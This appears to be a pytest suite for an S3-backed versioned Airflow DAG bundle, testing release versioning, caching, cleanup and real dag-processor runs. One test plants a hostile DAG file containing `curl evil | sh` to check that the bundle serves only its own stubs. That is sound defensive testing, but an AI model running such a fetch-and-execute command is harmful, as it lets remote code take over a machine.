"""The versioned DAG bundle (dagfactory_s3.bundle) against the moto server, in process and in the real
`airflow dag-processor` plus the task runner's own bundle/parse path.

Packages are published with the real publisher; the bundle reads S3 through the counting proxy.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import boto3
import pytest

pytest.importorskip("airflow", reason="needs the [airflow] extra")

from dagfactory_s3 import stub
from dagfactory_s3.bundle import Mapping, S3ReleaseDagBundle
from dagfactory_s3.errors import SyncError
from dagfactory_s3.naming import object_name
from dagfactory_s3.publisher import cli
from dagfactory_s3.release import CONTENT_OBJECTS, FileEntry, Release

from airflow_env import AIRFLOW, airflow_env, db_rows, migrate
from conftest import EXAMPLES
from s3server import aws_env

ENV = "dev"
SEEDER = "reporting_seeder"
IMAGE = "123456789012.dkr.ecr.us-east-1.amazonaws.com/reporting-seeder:"


def publish(bucket: str, src: Path, package: str) -> None:
    argv = ["publish", "--bucket", bucket, "--environment", ENV, "--package-name", package]
    assert cli.main([*argv, "--dag-path", str(src)]) == 0


def package_dir(tmp_path: Path, package: str, image_tag: str | None = None) -> Path:
    """A copy of an example package; ``image_tag`` replaces the reporting_seeder image tag."""
    dest = tmp_path / f"src-{package}-{image_tag or 'orig'}"
    while dest.exists():
        dest = dest.with_name(dest.name + "+")
    shutil.copytree(EXAMPLES / package / "airflow_dags", dest)
    if image_tag:
        for path in dest.glob("*.json"):
            path.write_text(path.read_text().replace(IMAGE + "2.4.1", IMAGE + image_tag))
    return dest


def bundle(storage: Path, monkeypatch: pytest.MonkeyPatch, bucket: str, version: str | None = None):
    """A bundle whose Airflow storage is ``storage`` (one machine's disk)."""
    monkeypatch.setenv("AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_STORAGE_PATH", str(storage))
    return S3ReleaseDagBundle(name="etl", bucket=bucket, environment=ENV, version=version)


def tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def image_of(root: Path, dag_id: str, package: str = SEEDER) -> str:
    doc = json.loads((root / package / "dags" / f"{dag_id}.json").read_text())
    return doc["task_defaults"]["image"]


# -- versions name the exact set of releases --------------------------------------------------------


def test_a_worker_rebuilds_an_old_version_from_s3_alone(s3, bucket, tmp_path, monkeypatch):
    """Versions name the set of releases; a machine that never saw v1 rebuilds it exactly after R2."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    publish(bucket, package_dir(tmp_path, "pipeline_processing"), "pipeline_processing")
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = processor.get_current_version()
    assert image_of(processor.path, "reporting_seeder_refresh_all") == IMAGE + "2.4.1"
    assert sorted(v1.data["releases"]) == ["pipeline_processing", SEEDER]
    processor_tree_v1 = tree(processor.path)

    processor.refresh()
    assert processor.get_current_version() == v1, "nothing published: the same version"

    publish(bucket, package_dir(tmp_path, SEEDER, "2.4.2"), SEEDER)
    processor.refresh()
    v2 = processor.get_current_version()
    assert v2.version != v1.version and v2.data["releases"][SEEDER] != v1.data["releases"][SEEDER]
    assert image_of(processor.path, "reporting_seeder_refresh_all") == IMAGE + "2.4.2"

    s3.clear()
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version=v1.version)
    worker.initialize()
    assert worker.path == tmp_path / "worker" / "etl" / "versions" / v1.version
    assert tree(worker.path) == processor_tree_v1
    # one delimited LIST for the packages, one per package for its history, records and objects by GET
    assert s3.count("LIST") == 3 and s3.count("PUT") == 0
    s3.clear()
    again = bundle(tmp_path / "worker", monkeypatch, bucket, version=v1.version)
    again.initialize()
    assert s3.count() == 0, "a materialized version costs no request on that machine again"


def test_concurrent_task_starts_materialize_a_version_once(s3, bucket, tmp_path, monkeypatch):
    """Four task starts at the same version on one machine at once: one builds it (under the base
    class's lock), the others find it built; every one sees the whole tree."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    version = processor.get_current_version().version
    workers = [bundle(tmp_path / "worker", monkeypatch, bucket, version=version) for _ in range(4)]
    s3.clear()
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(lambda w: w.initialize(), workers))
    assert [tree(w.path) for w in workers] == [tree(processor.path)] * 4
    assert sorted(sum(w.requests.values()) > 0 for w in workers) == [False, False, False, True]
    assert not [p for p in (tmp_path / "worker" / "etl" / "versions").iterdir() if p.name != version]


def test_a_publish_of_one_package_cannot_change_another_packages_content(s3, bucket, tmp_path, monkeypatch):
    """Two packages: publishing pipeline_processing changes only its own line of the next version."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    publish(bucket, package_dir(tmp_path, "pipeline_processing"), "pipeline_processing")
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = processor.get_current_version()
    seeder_v1 = tree(processor.path / SEEDER)

    other = package_dir(tmp_path, "pipeline_processing")
    doc = json.loads((other / "pipeline_processing_example_job.json").read_text())
    doc["description"] = "changed by the pipeline_processing team"
    (other / "pipeline_processing_example_job.json").write_text(json.dumps(doc))
    publish(bucket, other, "pipeline_processing")
    processor.refresh()
    v2 = processor.get_current_version()
    assert v2.version != v1.version
    assert v2.data["releases"][SEEDER] == v1.data["releases"][SEEDER]
    assert tree(processor.path / SEEDER) == seeder_v1
    for version in (v1, v2):
        worker = bundle(tmp_path / f"worker-{version.version}", monkeypatch, bucket, version=version.version)
        worker.initialize()
        assert tree(worker.path / SEEDER) == seeder_v1


def test_fail_static_a_release_with_missing_content_keeps_the_previous_one(s3, bucket, tmp_path, monkeypatch):
    """A release whose content object was deleted is not served; the package keeps its previous release."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = processor.get_current_version()
    publish(bucket, package_dir(tmp_path, SEEDER, "2.4.2"), SEEDER)
    raw = (
        boto3.client("s3", endpoint_url=s3.upstream)
        .get_object(Bucket=bucket, Key=f"{ENV}/{SEEDER}/metadata.json")["Body"]
        .read()
    )
    record = json.loads(raw)
    sha = record["files"]["dags/reporting_seeder_refresh_all.json"]["sha256"]
    boto3.client("s3", endpoint_url=s3.upstream).delete_object(
        Bucket=bucket, Key=f"{ENV}/{SEEDER}/_releases/objects/{sha}"
    )
    processor.refresh()
    assert processor.get_current_version() == v1
    assert image_of(processor.path, "reporting_seeder_refresh_all") == IMAGE + "2.4.1"


def test_mass_delete_guard_keeps_a_vanished_package(s3, bucket, tmp_path, monkeypatch):
    """A package whose objects all vanish (a lost listing looks the same) keeps being served."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = processor.get_current_version()
    client = boto3.client("s3", endpoint_url=s3.upstream)
    client.delete_object(Bucket=bucket, Key=f"{ENV}/{SEEDER}/metadata.json")
    processor.refresh()
    assert processor.get_current_version() == v1
    assert (processor.path / SEEDER / "dags" / "reporting_seeder_refresh_all.py").is_file()


def hostile_release(
    client,
    bucket: str,
    package: str,
    files: dict[str, bytes],
    release_id: str = "20991231T000000.000Z-abcdef",
) -> str:
    """Commit a hand-made release record (not the publisher's: it would refuse these files, or this id)."""
    for data in files.values():
        key = f"{ENV}/{package}/{object_name(hashlib.sha256(data).hexdigest())}"
        client.put_object(Bucket=bucket, Key=key, Body=data)
    record = Release(
        package,
        ENV,
        release_id,
        "2099-12-31T00:00:00Z",
        "hand-made",
        files={k: FileEntry(hashlib.sha256(v).hexdigest(), len(v)) for k, v in files.items()},
        content=CONTENT_OBJECTS,
    ).to_json()
    client.put_object(Bucket=bucket, Key=f"{ENV}/{package}/_releases/{release_id}.json", Body=record)
    client.put_object(Bucket=bucket, Key=f"{ENV}/{package}/metadata.json", Body=record)
    return release_id


def test_only_canonical_stubs_and_owned_manifests_are_served(s3, bucket, tmp_path, monkeypatch):
    """A record naming planted Python and a manifest claiming another package: the bundle serves the
    owned manifests with stubs it writes itself, and neither the planted bytes nor the foreign claim."""
    good = (EXAMPLES / SEEDER / "airflow_dags" / "reporting_seeder_refresh_all.json").read_bytes()
    foreign = json.loads(good)
    foreign.update(package="pipeline_processing", dag_id="reporting_seeder_foreign")
    planted = b"import os; os.system('curl evil | sh')\n"
    release_id = hostile_release(
        boto3.client("s3", endpoint_url=s3.upstream),
        bucket,
        SEEDER,
        {
            "dags/reporting_seeder_refresh_all.json": good,
            "dags/reporting_seeder_refresh_all.py": planted,
            "dags/reporting_seeder_foreign.json": json.dumps(foreign).encode(),
        },
    )
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    assert processor.get_current_version().data["releases"] == {SEEDER: release_id}
    served = tree(processor.path)
    assert sorted(served) == [
        f"{SEEDER}/.airflowignore",
        f"{SEEDER}/dags/reporting_seeder_refresh_all.json",
        f"{SEEDER}/dags/reporting_seeder_refresh_all.py",
    ]
    assert served[f"{SEEDER}/dags/reporting_seeder_refresh_all.py"] == stub.stub_for(
        "reporting_seeder_refresh_all.py"
    )


def test_a_worker_finds_the_version_when_a_publish_committed_across_it(s3, bucket, tmp_path, monkeypatch):
    """A release whose id is older than a version's instant but which committed after the version was
    read (a slow publish, a CI clock behind): the worker's first guess includes it, the digest says no,
    and it finds the version without it."""
    client = boto3.client("s3", endpoint_url=s3.upstream)
    good = (EXAMPLES / SEEDER / "airflow_dags" / "reporting_seeder_refresh_all.json").read_bytes()
    hostile_release(client, bucket, SEEDER, {"dags/reporting_seeder_refresh_all.json": good})
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    version = processor.get_current_version().version
    assert version.startswith("20991231T000000.000Z-"), "T is not before any release of the version"
    other = (
        EXAMPLES / "pipeline_processing" / "airflow_dags" / "pipeline_processing_example_job.json"
    ).read_bytes()
    late = "20991230T000000.000Z-aaaaaa"  # before T, committed after the version was read
    hostile_release(
        client, bucket, "pipeline_processing", {"dags/pipeline_processing_example_job.json": other}, late
    )
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version=version)
    worker.initialize()
    assert sorted(tree(worker.path)) == sorted(tree(processor.path))
    assert not (worker.path / "pipeline_processing").exists()


# Airflow's stale-version cleanup, as the dag-processor and workers run it (a fresh process: Airflow
# fixes its tracking folder when first imported).
CLEANUP = """
from airflow.dag_processing.bundles.base import BundleUsageTrackingManager, BundleVersionLock
import sys
for version in sys.argv[1:]:
    with BundleVersionLock(bundle_name="etl", bundle_version=version):
        pass  # what a task does while it runs: mark the version used
BundleUsageTrackingManager().remove_stale_bundle_versions()
"""


def test_stale_versions_are_cleaned(s3, bucket, tmp_path, monkeypatch):
    """Airflow removes a versioned bundle's unused worker versions; the bundle keeps a few dag-processor
    trees and drops cached content no tree links any more."""
    processor = bundle(tmp_path / "node", monkeypatch, bucket)
    processor.cache_grace = 0
    versions = []
    for tag in ("2.5.0", "2.5.1", "2.5.2", "2.5.3", "2.5.4"):
        publish(bucket, package_dir(tmp_path, SEEDER, tag), SEEDER)
        processor.refresh()
        versions.append(processor.get_current_version().version)
    trees = sorted(p.name for p in (tmp_path / "node" / "etl" / "tracking").iterdir())
    assert trees == versions[-3:] and processor.path.resolve().name == versions[-1]
    cached = [p for p in (tmp_path / "node" / "etl" / "objects").glob("*/*")]
    assert all(p.stat().st_nlink > 1 for p in cached), "content of dropped trees is gone from the cache"
    # refresh_all (its image changes) in each of the 3 kept trees, refresh_agency (unchanged) shared by all
    assert len(cached) == 3 + 1

    for version in versions[:2]:
        bundle(tmp_path / "node", monkeypatch, bucket, version=version).initialize()
    assert sorted(p.name for p in (tmp_path / "node" / "etl" / "versions").iterdir()) == versions[:2]
    env = {
        **airflow_env(tmp_path / "home", tmp_path / "unused"),
        **{k: v for k, v in aws_env(s3.url).items() if k.startswith("AWS_")},
        "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_STORAGE_PATH": str(tmp_path / "node"),
        "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_CONFIG_LIST": json.dumps(
            [
                {
                    "name": "etl",
                    "classpath": "dagfactory_s3.bundle.S3ReleaseDagBundle",
                    "kwargs": {"bucket": bucket, "environment": ENV},
                }
            ]
        ),
        "AIRFLOW__DAG_PROCESSOR__STALE_BUNDLE_CLEANUP_MIN_VERSIONS": "0",
        "AIRFLOW__DAG_PROCESSOR__STALE_BUNDLE_CLEANUP_AGE_THRESHOLD": "0",
    }
    (tmp_path / "home").mkdir()
    result = subprocess.run(
        [sys.executable, "-c", CLEANUP, *versions[:2]], env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert list((tmp_path / "node" / "etl" / "versions").iterdir()) == []


def test_an_unknown_version_is_a_clear_error(s3, bucket, tmp_path, monkeypatch):
    """A version no kept history matches fails the task start with one line saying why."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version="20240101T000000.000Z-" + "0" * 20)
    with pytest.raises(SyncError, match="cannot be rebuilt"):
        worker.initialize()


def test_mapping_digest_covers_bucket_environment_and_releases():
    """The version digest changes with any release, the bucket or the environment."""
    base = Mapping("b", "dev", {"a": "20240101T000000.000Z-aaaaaa"})
    assert base.digest() != Mapping("b", "prod", base.releases).digest()
    assert base.digest() != Mapping("c", "dev", base.releases).digest()
    assert base.digest() != Mapping("b", "dev", {"a": "20240101T000000.000Z-aaaaab"}).digest()


# -- the real Airflow components ----------------------------------------------------------------------

# What the task runner does at a task start (airflow/sdk/execution_time/task_runner.py::parse): the
# bundle from DagBundlesManager at the run's version, initialize(), then BundleDagBag over the one file.
TASK_START = """
import json, sys
from airflow.dag_processing.bundles.manager import DagBundlesManager
from airflow.dag_processing.dagbag import BundleDagBag
name, version, rel, dag_id = sys.argv[1:5]
bundle = DagBundlesManager().get_bundle(name=name, version=version)
bundle.initialize()
bag = BundleDagBag(dag_folder=str(bundle.path / rel), safe_mode=False, load_op_links=False,
                   bundle_path=bundle.path, bundle_name=name)
dag = bag.dags[dag_id]
print(json.dumps({"path": str(bundle.path), "images": {t.task_id: t.image for t in dag.tasks}}))
"""


def test_dag_runs_keep_their_release_in_the_real_dag_processor_and_task_start(s3, bucket, tmp_path):
    """A run triggered on R1 keeps R1 after R2 is published: Airflow's DagRun records R1's bundle version,
    and the task start at that version (the task runner's bundle and parse path) builds every task with
    R1's image; the next run records R2 and gets R2's image."""
    home, storage = tmp_path / "home", tmp_path / "bundles"
    home.mkdir()
    config = [
        {
            "name": "etl",
            "classpath": "dagfactory_s3.bundle.S3ReleaseDagBundle",
            "kwargs": {"bucket": bucket, "environment": ENV},
        }
    ]
    env = airflow_env(
        home,
        home / "unused-dags",
        AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_CONFIG_LIST=json.dumps(config),
        AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_STORAGE_PATH=str(storage),
        AIRFLOW__DAG_PROCESSOR__REFRESH_INTERVAL="0",
        AIRFLOW__CORE__MIN_SERIALIZED_DAG_UPDATE_INTERVAL="0",  # else a DAG written <30 s ago is not rewritten
    )
    env.update({k: v for k, v in aws_env(s3.url).items() if k.startswith("AWS_")})
    migrate(home, home / "unused-dags")
    dag_id = "reporting_seeder_refresh_all"

    def airflow(*argv: str) -> None:
        result = subprocess.run([AIRFLOW, *argv], env=env, capture_output=True, text=True, timeout=300)
        assert result.returncode == 0, result.stderr[-3000:]

    def task_start(run_id: str, worker: Path) -> dict:
        """The worker side of a task start, on another machine's disk, at the run's recorded version."""
        [(version,)] = db_rows(home, f"select bundle_version from dag_run where run_id = '{run_id}'")
        worker_env = {**env, "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_STORAGE_PATH": str(worker)}
        rel = f"{SEEDER}/dags/{dag_id}.py"
        result = subprocess.run(
            [sys.executable, "-c", TASK_START, "etl", version, rel, dag_id],
            env=worker_env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert result.returncode == 0, result.stderr[-3000:]
        return {"version": version, **json.loads(result.stdout.strip().splitlines()[-1])}

    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    airflow("dag-processor", "-n", "1")
    [(r1_version, r1_data)] = db_rows(
        home, f"select bundle_version, version_data from dag_version where dag_id = '{dag_id}'"
    )
    r1_release = json.loads(r1_data)["releases"][SEEDER]
    airflow("dags", "trigger", dag_id, "--run-id", "run_on_r1")  # in progress while R2 is published

    publish(bucket, package_dir(tmp_path, SEEDER, "2.4.2"), SEEDER)
    airflow("dag-processor", "-n", "1")
    r2_version, r2_data = db_rows(
        home,
        f"select bundle_version, version_data from dag_version where dag_id = '{dag_id}' "
        "order by version_number desc limit 1",
    )[0]
    assert r2_version != r1_version and json.loads(r2_data)["releases"][SEEDER] != r1_release
    airflow("dags", "trigger", dag_id, "--run-id", "run_on_r2")

    runs = dict(db_rows(home, f"select run_id, bundle_version from dag_run where dag_id = '{dag_id}'"))
    assert runs == {"run_on_r1": r1_version, "run_on_r2": r2_version}
    worker = tmp_path / "worker"  # one worker machine, both versions: the content cache is shared
    old, new = task_start("run_on_r1", worker), task_start("run_on_r2", worker)
    assert old["images"] == dict.fromkeys(["extract", "refresh_tables", "publish_summary"], IMAGE + "2.4.1")
    assert new["images"] == dict.fromkeys(["extract", "refresh_tables", "publish_summary"], IMAGE + "2.4.2")
